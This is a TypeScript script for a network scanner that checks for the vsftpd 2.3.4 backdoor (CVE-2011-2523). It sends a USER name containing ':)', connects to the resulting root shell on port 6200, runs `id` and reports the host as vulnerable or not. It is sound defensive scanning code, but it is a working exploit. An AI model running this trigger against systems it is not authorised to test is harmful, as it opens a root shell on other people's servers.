/**
 * ftp-vsftpd-backdoor (CVE-2011-2523): the trojaned vsftpd 2.3.4 tarball opened a root shell on
 * TCP 6200 when a user name contained ":)". We send such a USER, then connect to 6200 on the
 * same address only, run `id` and report its answer.
 *
 * @module
 */
import type { Script, ScriptContext, ScriptSocket } from "../types.ts";
import { portOrService } from "../bundled/rules.ts";
import { readReply } from "../bundled/text_services.ts";

/** Where the backdoor listens: fixed in the trojaned source. */
export const BACKDOOR_PORT = 6200;

async function tryShell(ctx: ScriptContext): Promise<ScriptSocket | undefined> {
  try {
    return await ctx.tcp({ port: BACKDOOR_PORT, timeoutMs: 1500 });
  } catch {
    return undefined;
  }
}

async function runId(shell: ScriptSocket): Promise<string> {
  await shell.send("id\n");
  let out = "";
  const deadline = Date.now() + 3000;
  while (!/uid=\d+/.test(out) && Date.now() < deadline) {
    try {
      const chunk = await shell.receiveText({ timeoutMs: deadline - Date.now() });
      if (chunk === "") break;
      out += chunk;
    } catch {
      break;
    }
  }
  await shell.send("exit\n").catch(() => {});
  return out.trim();
}

/** The `ftp-vsftpd-backdoor` script. */
export const ftpVsftpdBackdoor: Script = {
  name: "ftp-vsftpd-backdoor",
  categories: ["vuln", "intrusive", "exploit", "malware"],
  description:
    'Tests for the vsftpd 2.3.4 backdoor (CVE-2011-2523): a USER containing ":)" opens a shell on port 6200; runs `id` in it.',
  portRule: portOrService([21], ["ftp"]),
  async action(ctx) {
    const before = await tryShell(ctx);
    if (before) {
      const id = await runId(before);
      before.close();
      const evidence =
        `port ${BACKDOOR_PORT} was already open before the trigger; \`id\` returned ${
          JSON.stringify(id.slice(0, 120))
        }`;
      const shell = /uid=\d+/.test(id);
      return {
        text: `${shell ? "VULNERABLE" : "LIKELY VULNERABLE"}: ${evidence}`,
        data: { preexisting: true, id },
        vulnerable: {
          state: shell ? "VULNERABLE" : "LIKELY VULNERABLE",
          id: "CVE-2011-2523",
          title: "vsftpd 2.3.4 backdoor shell",
          evidence,
          risk: "critical",
        },
      };
    }
    const ftp = await ctx.tcp();
    let banner: string;
    try {
      const hello = await readReply(ftp);
      banner = hello.lines.join(" ");
      if (hello.code !== 220) {
        ftp.close();
        return undefined;
      }
      await ftp.send(`USER ${crypto.randomUUID().slice(0, 6)}:)\r\n`);
      await readReply(ftp).catch(() => undefined);
      // The backdoor fires here; the FTP session itself may hang, so its reply is not awaited.
      await ftp.send("PASS portolan\r\n");
    } catch (e) {
      ftp.close();
      throw e;
    }
    let shell: ScriptSocket | undefined;
    const deadline = Date.now() + 3000;
    while (!shell && Date.now() < deadline) {
      shell = await tryShell(ctx);
      if (!shell) await new Promise((r) => setTimeout(r, 200));
    }
    ftp.close();
    if (!shell) {
      const evidence = `sent USER with ":)" to ${
        JSON.stringify(banner.slice(0, 80))
      }; port ${BACKDOOR_PORT} stayed closed`;
      return {
        text: `NOT VULNERABLE: ${evidence}`,
        data: { triggered: false },
        vulnerable: {
          state: "NOT VULNERABLE",
          id: "CVE-2011-2523",
          title: "vsftpd 2.3.4 backdoor shell",
          evidence,
        },
      };
    }
    const id = await runId(shell);
    shell.close();
    const confirmed = /uid=\d+/.test(id);
    const evidence = `USER with ":)" opened port ${BACKDOOR_PORT}; \`id\` returned ${
      JSON.stringify(id.slice(0, 120))
    }`;
    return {
      text: `${confirmed ? "VULNERABLE" : "LIKELY VULNERABLE"}: ${evidence}`,
      data: { triggered: true, id },
      vulnerable: {
        state: confirmed ? "VULNERABLE" : "LIKELY VULNERABLE",
        id: "CVE-2011-2523",
        title: "vsftpd 2.3.4 backdoor shell",
        evidence,
        risk: "critical",
      },
    };
  },
};
